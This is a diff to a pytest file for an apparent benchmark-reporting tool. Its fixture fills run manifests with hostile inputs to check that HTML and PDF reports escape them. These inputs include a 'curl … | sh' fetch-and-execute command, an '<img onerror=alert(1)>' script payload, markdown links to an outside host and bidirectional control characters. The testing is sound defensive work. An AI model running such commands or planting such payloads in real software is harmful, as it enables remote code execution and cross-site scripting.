@@ -18,11 +18,12 @@ import pypdf
 import pytest
 import yaml
 
+from benchmarks.support.manifests import rewrite
 from robustbench_sgdm import report
 from robustbench_sgdm.core import escaping, resources
 from robustbench_sgdm.core.escaping import markdown
 from robustbench_sgdm.core.untrusted_input import escape_control_chars
-from robustbench_sgdm.figures import Material
+from robustbench_sgdm.figures import RunAnalysis
 from robustbench_sgdm.store import Run
 
 APP = resources.root() / "app"
@@ -68,39 +69,38 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Run:
     folder = tmp_path_factory.mktemp("hostile")
     name = f"![r]({AWAY.replace('/', ':')}) :smile: $r$ \u202e"
     run = made_run.make_run(folder, name, MODELS, CORRUPTIONS, images=6, resamples=True, leave=1)
-    plan = dict(run.plan)
-    plan["command"] = f"curl {AWAY} | sh  # {HOSTILE}"
-    plan["data"] = {**plan["data"], "name": HOSTILE, "source": HOSTILE, "truth": HOSTILE, "notes": [HOSTILE]}
-    plan["models"] = {
-        name: {
-            **about,
-            "weights": HOSTILE,
-            "notes": [HOSTILE],
-            "unfound": [HOSTILE],
-            "module": HOSTILE,
-            HOSTILE: HOSTILE,
-        }
-        for name, about in plan["models"].items()
+    parts = {
+        "command": f"curl {AWAY} | sh  # {HOSTILE}",
+        "data": {"name": HOSTILE, "source": HOSTILE, "ground_truth": HOSTILE, "notes": [HOSTILE]},
+        "models": {
+            name: {
+                "weights": HOSTILE,
+                "notes": [HOSTILE],
+                "unfound": [HOSTILE],
+                "module": HOSTILE,
+                HOSTILE: HOSTILE,
+            }
+            for name in run.manifest.models
+        },
+        "corruptions": {
+            name: {
+                "family": family,
+                "summary": f"{HOSTILE}\ud800",
+                "source": HOSTILE,
+                "strengths": {"1": HOSTILE, HOSTILE: "=1"},
+            }
+            for name, family in zip(run.manifest.corruptions, FAMILIES, strict=True)
+        },
+        "settings": {"device": HOSTILE},
+        **{part: {HOSTILE: HOSTILE} for part in ("versions", "hardware")},
     }
-    plan["corruptions"] = {
-        name: {
-            "family": family,
-            "summary": f"{HOSTILE}\ud800",
-            "source": HOSTILE,
-            "strengths": {"1": HOSTILE, HOSTILE: "=1"},
-        }
-        for name, family in zip(plan["corruptions"], FAMILIES, strict=True)
-    }
-    plan |= {part: {HOSTILE: HOSTILE} for part in ("versions", "hardware")}
-    plan["settings"] = {**plan["settings"], "device": HOSTILE}
-    (run.path / "plan.yaml").write_text(yaml.safe_dump(plan, sort_keys=False))
-    made = Run.open(run.path)
-    truth = made.truth()
+    made = rewrite(run, **parts)
+    truth = made.ground_truth()
     truth.categories["name"] = CLASSES
     truth.images["file"] = [f"{folder}/![i]({AWAY}:{number}) <b>i.png" for number in range(len(truth.images))]
-    truth.write(made.path / "ground_truth", plan["data"]["fingerprint"] + "x")
-    plan["data"]["fingerprint"] += "x"
-    (run.path / "plan.yaml").write_text(yaml.safe_dump(plan, sort_keys=False))
+    fingerprint = f"{made.manifest.data.fingerprint}x"
+    truth.write(made.path / "ground_truth", fingerprint)
+    rewrite(made, data={"fingerprint": fingerprint})
     rows = [(model, 10.0, 1.0, 1.0, 1.0, HOSTILE) for model in MODELS]
     made.write_latency(
         pd.DataFrame(rows, columns=["model", "milliseconds", "ratio", "low", "high", "device"])
@@ -160,7 +160,7 @@ def test_every_page_shows_text_as_text(watched: Watched) -> None:
     told = {path: check(watched, path) for path in PAGES}
     assert watched.away == []
     for path, texts in {
-        "": [SHOWN, *MODELS, FAMILIES[0], "\\u202e[f]", "No command can be made"],
+        "": [SHOWN, *MODELS, FAMILIES[0], "\\u202e[f]", "does not say which command"],
         "curves": [FAMILIES[0], next(iter(CORRUPTIONS)), MODELS[0]],
         "images": ["<b>i.png", SHOWN],
         "training": ["<img src=x onerror=alert(1)>", "![t]"],
@@ -191,14 +191,14 @@ def test_a_family_can_be_chosen_whatever_it_is_called(watched: Watched) -> None:
 
 
 def test_the_report_of_such_a_run(browser: Any, hostile: Run) -> None:
-    report.write(Material(hostile))
+    report.write_report(RunAnalysis(hostile))
     page = browser.new_page()
     watched = Watched(page, (hostile.path / "report.html").as_uri())
     page.goto(watched.address)
     told = " ".join(page.inner_text("main").split())
     assert watched.away == [] and page.locator("a:not([href^='#'])").count() == 0
     assert not set(told) & set("\u202e\u2066\u200b\x1b\x07") and all(one in told for one in (SHOWN, *MODELS))
-    recorded = page.locator("dd", has_text="as the plan has it, not checked").inner_text()
+    recorded = page.locator("dd", has_text="from the manifest, not verified").inner_text()
     assert "curl" in recorded and told.count("curl") == 1
     page.close()
     document = pypdf.PdfReader(hostile.path / "report.pdf")
